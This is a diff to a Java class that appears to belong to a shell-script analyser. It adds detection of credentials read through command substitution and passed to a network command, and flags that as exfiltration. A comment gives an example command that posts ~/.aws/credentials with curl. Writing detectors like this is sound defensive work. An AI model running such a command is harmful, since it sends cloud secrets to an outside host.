@@ -55,8 +55,10 @@ final class SimpleCommands {
     }
 
     void run(Command.Simple s, Stdin piped) {
+        int before = walk.operations.size();
         s.assignments().forEach(a -> walk.substitutions(a.value()));
         s.words().forEach(walk::substitutions);
+        List<Operation> substituted = List.copyOf(walk.operations.subList(Math.min(before, walk.operations.size()), walk.operations.size()));
         walk.redirects(s.redirects());
         Map<String, String> prefix = new HashMap<>();
         Map<String, Optional<String>> assigned = new java.util.LinkedHashMap<>();
@@ -79,6 +81,11 @@ final class SimpleCommands {
         Map<String, String> env = new HashMap<>(walk.env);
         env.putAll(prefix);
         dispatch(new Run(words, env, stdin, walk.evidence(s.span()), walk.locators, 0));
+        if (!substituted.isEmpty()) {
+            // curl -d "$(cat ~/.aws/credentials)" https://…: a secret read for an argument of a network command leaves with it.
+            Flows.carried(s, substituted, walk).filter(c -> c.type().equals("credentials")).ifPresent(cargo ->
+                    Flows.networkCommand(words).ifPresent(host -> walk.add(Flows.exfiltration(cargo, host, walk.evidence(s.span()), walk.locators))));
+        }
         walk.carried.observe(words, walk);
         if (!words.isEmpty() && words.getFirst().literal() && List.of("export", "declare", "typeset", "local", "readonly")
                 .contains(words.getFirst().value())) {
